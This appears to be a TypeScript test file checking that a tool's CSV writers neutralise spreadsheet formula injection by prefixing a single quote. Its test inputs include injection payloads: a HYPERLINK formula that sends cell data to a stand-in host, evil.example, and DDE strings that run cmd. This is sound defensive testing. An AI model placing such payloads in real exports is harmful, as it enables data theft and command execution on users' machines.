// CSV formula injection: a text cell a spreadsheet would run as a formula gets a leading single
// quote (OWASP's rule); numbers and plain-number text are left alone; the hand-written
// changes.csv writer and csv-stringify (every other table) make the same bytes.
import { describe, expect, it } from 'vitest';
import { TimeBase } from '../../src/engine/time.js';
import { runReplication } from '../../src/model/replication.js';
import { toCsv } from '../../src/report/write-run.js';
import { neutraliseFormula } from '../../src/stats/csv.js';
import { CHANGE_COLUMNS, changeRows, changesCsv, csvRows } from '../../src/stats/rows.js';
import { loadScenario } from '../../src/scenario/index.js';
import type { Scenario } from '../../src/scenario/types.js';

/** The payloads of issue 13 and OWASP's list of formula starts. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('neutraliseFormula', () => {
  it('puts a single quote before text that starts with = + - @ tab or carriage return', () => {
    expect(PAYLOADS.map(neutraliseFormula)).toEqual(PAYLOADS.map((p) => `'${p}`));
  });

  it('leaves other text, plain-number text and empty cells as they are', () => {
    for (const t of ['small', 'GBP', "'=already quoted", ' =1+1', '', '2027-01-04T09:00', '-2.5', '+3', '-1e-3', '.5']) {
      expect(neutraliseFormula(t), t).toBe(t);
    }
    expect(neutraliseFormula('-')).toBe("'-");
    expect(neutraliseFormula('-2.5.1')).toBe("'-2.5.1");
    expect(neutraliseFormula('1+1')).toBe('1+1');
  });

  it('csv-stringify tables (toCsv, csvRows) neutralise text but not numbers or headers', () => {
    const rows = [{ name: '=1+1', amount: -2.5, currency: '@SUM(A1)' }];
    expect(toCsv(rows)).toBe("name,amount,currency\n'=1+1,-2.5,'@SUM(A1)\n");
    expect(csvRows(rows, ['name', 'amount', 'currency'])).toBe("'=1+1,-2.5,'@SUM(A1)\n");
  });
});

describe('changes.csv with formula class names', () => {
  it('the direct writer neutralises class names and still matches csv-stringify byte for byte', () => {
    const base = loadScenario('scenarios/ops-run-it.yaml');
    const s: Scenario = {
      ...base,
      horizon: 20 * 10080,
      classes: base.classes.map((c, i) => ({ ...c, name: PAYLOADS[i === 0 ? 0 : 4]! })),
    };
    const out = runReplication(s, 'normal', 1);
    const tb = new TimeBase(s.start);
    const direct = changesCsv(out.changes, tb);
    expect(direct).toBe(csvRows(changeRows(out.changes, tb), CHANGE_COLUMNS));
    const lines = direct.split('\n');
    expect(lines.some((l) => l.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`))).toBe(true);
    expect(lines.some((l) => l.includes(`,'\t=1+1,`))).toBe(true);
    expect(direct).not.toMatch(/,[=+@]|,-[^0-9]/);
  });
});
